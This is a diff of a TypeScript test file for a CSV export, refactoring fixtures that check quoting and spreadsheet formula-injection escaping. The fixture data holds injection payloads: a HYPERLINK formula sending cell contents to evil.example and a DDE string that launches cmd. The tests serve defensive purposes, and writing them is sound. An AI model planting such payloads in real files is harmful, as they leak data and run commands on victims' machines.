@@ -16,85 +16,72 @@ function rowsOf(csv: string): Row[] {
 
 const headerOf = (csv: string) => (parse(csv, { bom: true, to_line: 1 }) as string[][])[0];
 
-/** The sample model with one more insight, first on the board, whose quote has commas, quotes and a line break. */
-function withAwkwardQuote(model: ExportModel): { model: ExportModel; quote: ExportQuote; insight: ExportInsight } {
-  const interview = model.interviews[0];
-  const text = `He said, "well… it's fine",\r\nthen left, 🙂 "twice".`;
-  const transcript = `${interview.text}\n${text}`;
-  const start = interview.text.length + 1;
-  const quote: ExportQuote = {
-    text,
-    documentId: interview.id,
-    speaker: 'P "one", lead',
-    start,
-    end: start + text.length,
-    documentName: interview.name,
-    time: '01:02:03',
-    citation: `— P "one", lead, ${interview.name} · 01:02:03`,
-  };
-  const insight: ExportInsight = {
-    id: 'awkward',
-    title: 'Commas, "quotes"\nand lines',
-    description: 'A description, with "quotes".',
-    tag: 'edge, case',
-    theme: 'Edge "cases", first',
-    source: 'manual',
-    quotes: [quote],
-    documentIds: [interview.id],
-  };
-  const unquoted: ExportInsight = { ...insight, id: 'no-quotes', title: 'An insight without quotes', quotes: [] };
-  return {
-    model: {
-      ...model,
-      themes: [{ name: insight.theme, insights: [insight, unquoted], interviewCount: 1, quoteCount: 1 }, ...model.themes],
-      interviews: [{ ...interview, text: transcript }, ...model.interviews.slice(1)],
-    },
-    quote,
-    insight,
-  };
+interface ExtraInsight {
+  id: string;
+  /** The participant's words, appended to the first interview's transcript. */
+  text: string;
+  speaker: string;
+  time: string;
+  /** Renames the first interview (default: its own name). */
+  interviewName?: string;
+  about: Pick<ExportInsight, 'title' | 'description' | 'tag' | 'theme'>;
+  /** Also add an insight without quotes after it. */
+  withUnquoted?: boolean;
 }
 
-/**
- * The sample model with one more insight, first on the board, in which every piece of third-party text (theme, title,
- * description, tag, the participant's words, the speaker label, the file name) starts like a spreadsheet formula.
- */
-function withFormulas(model: ExportModel): { model: ExportModel; quote: ExportQuote; insight: ExportInsight; interviewName: string } {
+/** The sample model with one more insight, first on the board, quoting `text` from the first interview. */
+function withFirstInsight(model: ExportModel, extra: ExtraInsight): { model: ExportModel; quote: ExportQuote; insight: ExportInsight; interviewName: string } {
   const interview = model.interviews[0];
-  const interviewName = '-2+3 interview.txt';
-  const text = '=1+2 is what I typed into the cell';
-  const transcript = `${interview.text}\n${text}`;
+  const interviewName = extra.interviewName ?? interview.name;
   const start = interview.text.length + 1;
   const quote: ExportQuote = {
-    text,
+    text: extra.text,
     documentId: interview.id,
-    speaker: '@SUM(A1:A9)',
+    speaker: extra.speaker,
     start,
-    end: start + text.length,
+    end: start + extra.text.length,
     documentName: interviewName,
-    time: '00:00:05',
-    citation: `— @SUM(A1:A9), ${interviewName} · 00:00:05`,
+    time: extra.time,
+    citation: `— ${extra.speaker}, ${interviewName} · ${extra.time}`,
   };
-  const insight: ExportInsight = {
-    id: 'formulas',
-    title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-    description: '+cmd|\' /C calc\'!A0',
-    tag: '\tabbed',
-    theme: '\r=1+1',
-    source: 'manual',
-    quotes: [quote],
-    documentIds: [interview.id],
-  };
+  const insight: ExportInsight = { id: extra.id, ...extra.about, source: 'manual', quotes: [quote], documentIds: [interview.id] };
+  const unquoted: ExportInsight[] = extra.withUnquoted ? [{ ...insight, id: 'no-quotes', title: 'An insight without quotes', quotes: [] }] : [];
   return {
     model: {
       ...model,
-      themes: [{ name: insight.theme, insights: [insight], interviewCount: 1, quoteCount: 1 }, ...model.themes],
-      interviews: [{ ...interview, name: interviewName, text: transcript }, ...model.interviews.slice(1)],
+      themes: [{ name: insight.theme, insights: [insight, ...unquoted], interviewCount: 1, quoteCount: 1 }, ...model.themes],
+      interviews: [{ ...interview, name: interviewName, text: `${interview.text}\n${extra.text}` }, ...model.interviews.slice(1)],
     },
     quote,
     insight,
     interviewName,
   };
 }
+
+/** One more insight, first on the board, whose quote has commas, quotes and a line break. */
+const withAwkwardQuote = (model: ExportModel) =>
+  withFirstInsight(model, {
+    id: 'awkward',
+    text: `He said, "well… it's fine",\r\nthen left, 🙂 "twice".`,
+    speaker: 'P "one", lead',
+    time: '01:02:03',
+    about: { title: 'Commas, "quotes"\nand lines', description: 'A description, with "quotes".', tag: 'edge, case', theme: 'Edge "cases", first' },
+    withUnquoted: true,
+  });
+
+/**
+ * One more insight, first on the board, in which every piece of third-party text (theme, title, description, tag,
+ * the participant's words, the speaker label, the file name) starts like a spreadsheet formula.
+ */
+const withFormulas = (model: ExportModel) =>
+  withFirstInsight(model, {
+    id: 'formulas',
+    text: '=1+2 is what I typed into the cell',
+    speaker: '@SUM(A1:A9)',
+    time: '00:00:05',
+    interviewName: '-2+3 interview.txt',
+    about: { title: '=HYPERLINK("http://evil.example/?"&A1,"Click")', description: "+cmd|' /C calc'!A0", tag: '\tabbed', theme: '\r=1+1' },
+  });
 
 let model: ExportModel;
 beforeAll(async () => {
